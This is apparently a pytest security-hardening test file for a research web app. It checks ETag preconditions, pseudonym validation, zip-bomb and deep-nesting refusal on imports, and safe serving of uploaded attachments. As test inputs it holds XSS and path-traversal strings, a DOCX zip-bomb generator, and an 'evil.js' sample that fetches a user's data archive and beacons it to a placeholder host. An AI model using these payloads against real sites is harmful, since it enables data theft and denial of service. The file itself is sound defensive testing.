"""Hardening attacks (issue 15, part 6): each with its positive control.

If-Match wildcards, pseudonyms the web refuses, interview attachments served as active
content, zip bombs in transcript imports.
"""

from __future__ import annotations

import io
import time
import zipfile

import pytest
from sqlalchemy import func, select

from inquiry_hub.extensions import db
from inquiry_hub.fieldwork.models import Code, Excerpt, Interview, InterviewFile, Note
from tests.api.conftest import Api, make_token
from tests.conftest import login
from tests.security._hardening import make_field


@pytest.fixture
def field(team):
    return make_field(team)


@pytest.fixture
def api(client, field):
    return Api(client, make_token(field["student"]))


# --- If-Match: only the current ETag -----------------------------------------------------


def _patches(field) -> dict:
    """resource → (url, body): objects whose writes require If-Match."""
    return {
        "interview": (f"/api/v1/interviews/{field['interview'].id}", {"place": "Mairie"}),
        "code": (f"/api/v1/codes/{field['code'].id}", {"name": "Décider"}),
        "excerpt": (f"/api/v1/excerpts/{field['excerpt'].id}", {"start": 0, "end": 9}),
    }


def _state(field) -> tuple:
    db.session.expire_all()
    return (
        db.session.get(Interview, field["interview"].id).place,
        db.session.get(Code, field["code"].id).name,
        db.session.get(Excerpt, field["excerpt"].id).start,
    )


@pytest.mark.parametrize("resource", ["interview", "code", "excerpt"])
def test_if_match_star_is_refused_where_an_etag_is_required(api, field, resource):
    url, body = _patches(field)[resource]
    before = _state(field)
    response = api.patch(url, json=body, headers={"If-Match": "*"})
    assert response.status_code == 412
    assert response.json["error"]["code"] == "precondition_failed"
    assert _state(field) == before


@pytest.mark.parametrize("resource", ["interview", "code", "excerpt"])
def test_if_match_missing_is_428(api, field, resource):
    url, body = _patches(field)[resource]
    assert api.patch(url, json=body).status_code == 428


@pytest.mark.parametrize("resource", ["interview", "code", "excerpt"])
def test_the_current_etag_passes(api, field, resource):
    url, body = _patches(field)[resource]
    before = _state(field)
    etag = api.get(url).headers["ETag"]
    response = api.patch(url, json=body, headers={"If-Match": etag})
    assert response.status_code == 200
    assert _state(field) != before


def test_if_match_star_among_others_is_refused_on_a_note(api, field):
    url = f"/api/v1/notes/{field['note'].id}"
    response = api.patch(url, json={"title": "Autre"}, headers={"If-Match": '"v999", *'})
    assert response.status_code == 412
    etag = api.get(url).headers["ETag"]
    assert api.patch(url, json={"title": "Autre"}, headers={"If-Match": etag}).status_code == 200


# --- one pseudonym rule for the web form and the API ------------------------------------

REFUSED_PSEUDONYMS = [
    "<script>alert(1)</script>",
    "E07\n",
    "E\t07",
    "E07\nLéa Dupont",
    "../E07",
    "E07;DROP",
    "x" * 41,
    "   ",
]


def _web_create(client, field, pseudonym: str):
    login(client, field["student"])
    url = f"/inquiries/{field['inquiry'].id}/fieldwork/interviews/new"
    return client.post(url, data={"pseudonym": pseudonym, "status": "planned"})


def _pseudonyms(field) -> set[str]:
    return set(
        db.session.scalars(select(Interview.pseudonym).where(Interview.inquiry_id == field["inquiry"].id))
    )


@pytest.mark.parametrize("pseudonym", REFUSED_PSEUDONYMS)
def test_the_api_refuses_a_pseudonym_the_web_form_refuses(client, api, field, pseudonym):
    assert _web_create(client, field, pseudonym).status_code == 422
    url = f"/api/v1/inquiries/{field['inquiry'].id}/interviews"
    response = api.post(url, json={"pseudonym": pseudonym})
    assert response.status_code == 422
    assert "pseudonym" in response.json["error"]["details"]["json"]
    assert _pseudonyms(field) == {"E07"}


@pytest.mark.parametrize("pseudonym", REFUSED_PSEUDONYMS)
def test_the_api_refuses_such_a_pseudonym_on_edit_too(api, field, pseudonym):
    url = f"/api/v1/interviews/{field['interview'].id}"
    etag = api.get(url).headers["ETag"]
    assert api.patch(url, json={"pseudonym": pseudonym}, headers={"If-Match": etag}).status_code == 422
    assert _pseudonyms(field) == {"E07"}


def test_a_good_pseudonym_passes_both(client, api, field):
    assert _web_create(client, field, "Mme K.-d'Arc 2").status_code == 302
    url = f"/api/v1/inquiries/{field['inquiry'].id}/interviews"
    assert api.post(url, json={"pseudonym": "E’08 bis"}).status_code == 201
    assert _pseudonyms(field) == {"E07", "Mme K.-d'Arc 2", "E’08 bis"}


# --- zip bombs and text floods in transcript imports ---------------------------------------


def _docx(paragraphs: list[str]) -> bytes:
    import docx

    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _bomb() -> bytes:
    """A small DOCX that unpacks to about 22 MB of XML (the measured attack)."""
    return _docx(["bla " * 50_000] * 100)


def _import(client, field, name: str, data: bytes):
    login(client, field["student"])
    url = f"/inquiries/{field['inquiry'].id}/fieldwork/notes/import?interview_id={field['interview'].id}"
    return client.post(url, data={"transcript": (io.BytesIO(data), name)}, content_type="multipart/form-data")


def _notes() -> int:
    return db.session.scalar(select(func.count(Note.id)))


def test_a_docx_bomb_is_refused_before_it_is_parsed(client, field):
    data = _bomb()
    assert len(data) < 200_000
    unpacked = sum(e.file_size for e in zipfile.ZipFile(io.BytesIO(data)).infolist())
    assert unpacked > 20_000_000
    started = time.monotonic()
    response = _import(client, field, "entretien.docx", data)
    assert time.monotonic() - started < 5
    assert response.status_code == 413
    assert "too much data" in response.get_data(as_text=True)
    assert _notes() == 1


def test_a_zip_with_thousands_of_members_is_refused(client, field):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for n in range(2100):
            archive.writestr(f"word/part{n}.xml", "<a/>")
    response = _import(client, field, "entretien.docx", out.getvalue())
    assert response.status_code == 413
    assert _notes() == 1


def test_a_text_longer_than_a_note_is_refused(client, field):
    response = _import(client, field, "entretien.txt", ("Une phrase. " * 50_000).encode())
    assert response.status_code == 413
    assert "characters of text" in response.get_data(as_text=True)
    assert _notes() == 1


def test_a_broken_docx_is_a_422_with_its_reason(client, field):
    response = _import(client, field, "entretien.docx", b"PK\x03\x04 not really")
    assert response.status_code == 422
    assert "damaged" in response.get_data(as_text=True)


def test_a_real_transcript_is_imported(client, field):
    response = _import(client, field, "entretien.docx", _docx(["Bonjour.", "On décide ensemble."] * 200))
    assert response.status_code == 200
    assert "On décide ensemble." in response.get_data(as_text=True)
    assert _notes() == 1  # a preview: nothing stored before the writer saves


def test_the_deliverable_upload_refuses_the_same_bomb_with_the_same_guard(field):
    from inquiry_hub.deliverables import files

    with pytest.raises(files.Refused):
        files.sniff(_bomb())


# --- stored files go back with their sniffed type, never the browser's claim -------------------

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
    b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)
#: name → (bytes, the type the browser claims): active content the app's origin must never serve.
ACTIVE = {
    "evil.js": (
        b"fetch('/me/data.zip').then(r => r.blob()).then(b => navigator.sendBeacon('//x', b))\n",
        "text/javascript",
    ),
    "evil.html": (
        b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>",
        "text/html",
    ),
    "evil.svg": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
        "image/svg+xml",
    ),
    "photo.png": (b"<html><script>alert(1)</script></html>", "image/png"),
}


def _attach(client, field, name: str, data: bytes, claimed: str) -> str:
    """Upload through the web form; the URL of the new file's download."""
    login(client, field["student"])
    base = f"/inquiries/{field['inquiry'].id}/fieldwork/interviews/{field['interview'].id}"
    client.post(
        base + "/files",
        data={"attachment": (io.BytesIO(data), name, claimed)},
        content_type="multipart/form-data",
    )
    row = db.session.scalars(select(InterviewFile).order_by(InterviewFile.id.desc())).first()
    assert row is not None and row.filename == name
    return f"{base}/files/{row.id}"


@pytest.mark.parametrize("name", list(ACTIVE))
def test_an_attachment_is_never_served_as_active_content(client, field, name):
    data, claimed = ACTIVE[name]
    response = client.get(_attach(client, field, name, data, claimed))
    assert response.status_code == 200 and response.data == data
    assert response.mimetype in ("application/octet-stream", "text/plain")
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_an_attachment_keeps_its_real_type_when_allowed(client, field):
    response = client.get(_attach(client, field, "lieu.png", PNG, "application/x-evil"))
    assert response.status_code == 200 and response.data == PNG
    assert response.mimetype == "image/png"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_the_stored_type_is_the_sniffed_one(client, field):
    _attach(client, field, "evil.html", *ACTIVE["evil.html"])
    row = db.session.scalars(select(InterviewFile).order_by(InterviewFile.id.desc())).first()
    assert row.mimetype == "text/html"  # what it is; it is still never served as such


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (PNG, "image/png"),
        (b"%PDF-1.4\n%%EOF\n", "application/pdf"),
        (ACTIVE["evil.html"][0], "application/octet-stream"),
    ],
)
def test_download_type_allows_a_short_list_only(data, expected):
    from inquiry_hub.filecheck import download_type

    assert download_type(data) == expected


def test_a_codebook_nested_thousands_deep_is_refused_not_a_500(client, field):
    code = '<Code guid="{g}" name="c{n}" isCodable="true">'
    deep = "".join(code.format(g=f"00000000-0000-0000-0000-{n:012d}", n=n) for n in range(5000))
    document = (
        '<?xml version="1.0" encoding="utf-8"?><CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'
        + deep
        + "</Code>" * 5000
        + "</Codes></CodeBook>"
    ).encode()
    login(client, field["student"])
    url = f"/inquiries/{field['inquiry'].id}/fieldwork/codebook/import"
    response = client.post(url, data={"codebook": (io.BytesIO(document), "deep.qdc")}, follow_redirects=True)
    assert response.status_code == 200
    assert "nested too deeply" in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count(Code.id))) == 1  # the fixture's code only
